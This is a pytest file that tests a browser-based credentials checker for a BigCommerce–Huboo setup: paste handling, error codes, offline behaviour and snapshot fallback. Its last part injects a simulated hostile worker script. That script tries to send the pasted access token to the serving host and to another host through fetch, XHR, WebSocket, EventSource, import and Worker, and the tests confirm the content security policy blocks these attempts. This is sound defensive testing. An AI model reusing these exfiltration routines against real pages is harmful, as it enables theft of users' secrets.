"""What matters most, in the three engines that readers have: the same text, three drivers."""

from __future__ import annotations

import json
import re
from collections.abc import Callable

import pytest
from serving import Served
from values import Credentials, make_credentials
from windows import Window

from validator import load_contract

CONTRACT = load_contract("bigcommerce-huboo")

PASTE = """async (text, element) => {
  const checker = document.querySelector(element);
  const state = () => checker.getAttribute("state");
  const until = (ready) => new Promise((resolve) => {
    const look = () => (ready() ? resolve() : setTimeout(look, 20));
    look();
  });
  // A page counts as loaded before its elements have woken up.
  await until(state);
  const place = checker.querySelector("textarea");
  place.value = text;
  checker.setAttribute("state", "pasted");
  place.dispatchEvent(new InputEvent("input", { bubbles: true, inputType: "insertFromPaste" }));
  await until(() => !["pasted", "waiting"].includes(state()));
  return state();
}"""
RESULT = """() => ({
  verdict: document.querySelector(".result").dataset.verdict,
  statuses: [...document.querySelectorAll(".field")].map((field) => field.dataset.status),
  codes: [...document.querySelectorAll(".finding [data-link=help]")].map((link) => link.hash.slice(1)),
})"""
WATCH = """() => {
  window.violations = [];
  addEventListener("securitypolicyviolation", ({ violatedDirective }) => window.violations.push(violatedDirective));
}"""


@pytest.fixture
def credentials() -> Credentials:
    return make_credentials()


def paste(window: Window, text: str, element: str = "credentials-checker") -> dict:
    """Paste a text and return what the page shows."""
    assert window.ask(PASTE, text, element) == "done"
    return window.ask(RESULT)


def test_a_good_file_is_complete_and_starts_from_the_snapshot(
    window: Window, served: Served, credentials: Credentials
) -> None:
    window.open(f"{served.address}/checker/")
    window.ask(WATCH)
    assert paste(window, credentials.text()) == {"verdict": "complete", "statuses": ["ok"] * 4, "codes": []}
    assert any("snapshot" in path for path in served.asked)
    assert not any("stdlib" in path for path in served.asked)
    assert window.ask("() => window.violations") == []
    assert window.complaints() == []


@pytest.mark.parametrize(
    ("code", "damage"),
    [
        ("missing", lambda each: each.text(without="client_secret")),
        ("upper-case", lambda each: each.text().replace(each.access_token, each.access_token.upper())),
        ("wrong-length", lambda each: each.text().replace(each.client_id, each.client_id + "a")),
        ("truncated", lambda each: each.text().replace(each.client_secret, each.client_secret[:55])),
        ("path-host-only", lambda each: each.text().replace(each.api_path, "https://api.bigcommerce.com/")),
        (
            "joined-lines",
            lambda each: each.text().replace(each.client_secret[:20], f"{each.client_secret[:20]}\n> "),
        ),
    ],
)
def test_what_is_wrong_is_found(
    window: Window, served: Served, credentials: Credentials, code: str, damage: Callable[[Credentials], str]
) -> None:
    window.open(f"{served.address}/checker/")
    assert paste(window, damage(credentials))["codes"] == [code]


def test_scopes_are_read_and_compared(window: Window, served: Served) -> None:
    window.open(f"{served.address}/scopes/")
    rows = [f"{scope.label}: {scope.required}" for scope in CONTRACT.required_scopes]
    assert paste(window, "\n".join(rows), "scope-form")["verdict"] == "enough"
    assert paste(window, "\n".join(rows[1:]), "scope-form")["verdict"] == "not-enough"


def test_it_answers_with_the_cable_pulled(window: Window, served: Served, credentials: Credentials) -> None:
    window.open(f"{served.address}/checker/")
    paste(window, credentials.text(without="client_id"))
    served.stop()
    assert paste(window, credentials.text())["verdict"] == "complete"


def with_another_sum(manifest: str) -> str:
    """Return the list of the runtime's files with a sum that the snapshot does not have."""
    content = json.loads(manifest)
    content["files"]["snapshot"]["sha256"] = "0" * 64
    return json.dumps(content)


def test_a_damaged_snapshot_is_no_obstacle(window: Window, served: Served, credentials: Credentials) -> None:
    served.changes["manifest.json"] = with_another_sum
    window.open(f"{served.address}/checker/")
    assert paste(window, credentials.text())["verdict"] == "complete"
    assert any("stdlib" in path for path in served.asked)


# Each tries to get a word out. What a browser does not have is no way out.
ATTEMPTS = """
const word = "WORD", own = "OWN", other = "OTHER";
const attempts = Promise.allSettled([own, other].flatMap((address) => [
  () => fetch(`${address}/fetch-${word}`),
  () => fetch(`${address}/no-cors-${word}`, { mode: "no-cors" }),
  () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onloadend = resolve;
    request.open("POST", `${address}/xhr-${word}`);
    request.send(word);
  }),
  () => new Promise((resolve) => {
    const line = new WebSocket(`${address.replace("http", "ws")}/socket-${word}`);
    line.onerror = line.onopen = resolve;
  }),
  () => new Promise((resolve) => {
    const source = new EventSource(`${address}/events-${word}`);
    source.onerror = source.onopen = resolve;
  }),
  () => import(`${address}/import-${word}.js`),
  () => new Promise((resolve) => {
    const inner = new Worker(`${address}/worker-${word}.js`);
    inner.onerror = inner.onmessage = resolve;
  }),
].map(async (attempt) => attempt())));
"""
ANSWER = (
    "line.onmessage = ({ data: { id, request } }) => line.postMessage({ id, reply: reply(answer, request) });"
)


def hostile(worker: str, word: str, own: str, other: str) -> str:
    """Return the worker's script with what somebody who got at it might add; it answers when all is tried."""
    assert ANSWER in worker
    at_once = ANSWER.partition("=> ")[2]
    slow = f"line.onmessage = async ({{ data: {{ id, request }} }}) => {{ await attempts; {at_once} }};"
    places = {"WORD": word, "OWN": own, "OTHER": other}
    attempts = re.sub("WORD|OWN|OTHER", lambda found: places[found[0]], ATTEMPTS)
    return attempts + worker.replace(ANSWER, slow)


def attack(
    window: Window, served: Served, other: Served, credentials: Credentials
) -> tuple[set[str], set[str]]:
    """Paste with a hostile worker; return the ways on which the pasted token got to this host and to the other."""
    word = credentials.access_token
    served.changes["/worker.js"] = lambda worker: hostile(worker, word, served.address, other.address)
    window.open(f"{served.address}/checker/")
    assert paste(window, credentials.text())["verdict"] == "complete"
    here, there = (
        {path.partition(f"-{word}")[0].lstrip("/") for path in each.asked if word in path}
        for each in (served, other)
    )
    return here, there


def test_nothing_leaves_the_thread_that_sees_the_secret(
    window: Window, served: Served, other: Served, credentials: Credentials
) -> None:
    assert attack(window, served, other, credentials) == (set(), set())
    assert other.asked == []


def test_the_attempts_get_out_where_nothing_is_forbidden(
    window: Window, served: Served, other: Served, credentials: Credentials
) -> None:
    """What the test above tries is worth something only if it works where the policy is gone."""
    served.changes["/frame.htm"] = lambda frame: re.sub(r"<meta http-equiv[^>]*>", "", frame)
    here, there = attack(window, served, other, credentials)
    assert here >= {"fetch", "no-cors", "xhr", "events", "socket", "import"}
    assert there >= {"fetch", "no-cors", "import"}
